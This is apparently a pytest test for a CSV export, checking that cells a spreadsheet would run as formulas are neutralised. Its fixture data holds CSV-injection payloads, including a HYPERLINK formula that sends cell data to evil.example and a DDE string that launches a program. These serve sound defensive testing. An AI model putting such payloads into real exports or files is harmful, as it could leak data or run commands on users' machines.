"""The CSV export is formula-safe (issue 12, item 4): cells a spreadsheet would run stay
text, control characters go, and every run is one row, read back with the csv module."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
import sqlalchemy as sa

from db import store
from db.connection import get_engine
from engine.orchestration.batches import start_batch
from db.exports import ExportFilter
from engine.orchestration.export import export_csv
from engine.orchestration.review import reject_run
from tests.support.batches import JOB, Tailor, clear_queue, make_tailor

NAMES = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
         "-1+1", "@SUM(1,1)", "\t=1+1", "Ann\rBob"]


@pytest.fixture
def tailor(sqlite_url: str, redis_url: str, monkeypatch) -> Iterator[Tailor]:
    tailor = make_tailor(sqlite_url, redis_url, len(NAMES))
    with get_engine(sqlite_url).begin() as conn:
        for i, name in enumerate(NAMES, start=1):
            conn.execute(sa.text("UPDATE candidates SET full_name = :n WHERE id = :i"),
                         {"n": name, "i": i})
    for name, value in tailor.env.items():
        monkeypatch.setenv(name, value)
    yield tailor
    clear_queue(tailor)


def test_export_cells_are_never_formulas_and_each_run_is_one_row(tailor: Tailor):
    settings = tailor.settings
    ids = [str(i) for i in range(1, len(NAMES) + 1)]
    batch_id = start_batch(settings, ids, JOB, "tester")
    first = store.run_steps(settings.database_url, batch_id)[0].id
    reject_run(settings, first, "=1+2", note="@evil")
    text = export_csv(settings, ExportFilter(batch_id=batch_id, include_all=True))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(NAMES)
    names = [row["candidate_name"] for row in rows]
    assert names[:6] == [f"'{n}" for n in NAMES[:6]]  # "\t=1+1" too: a reader strips the tab
    assert names[6] == "Ann\nBob"  # a bare CR splits no row
    assert rows[0]["reviewer"] == "'=1+2"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
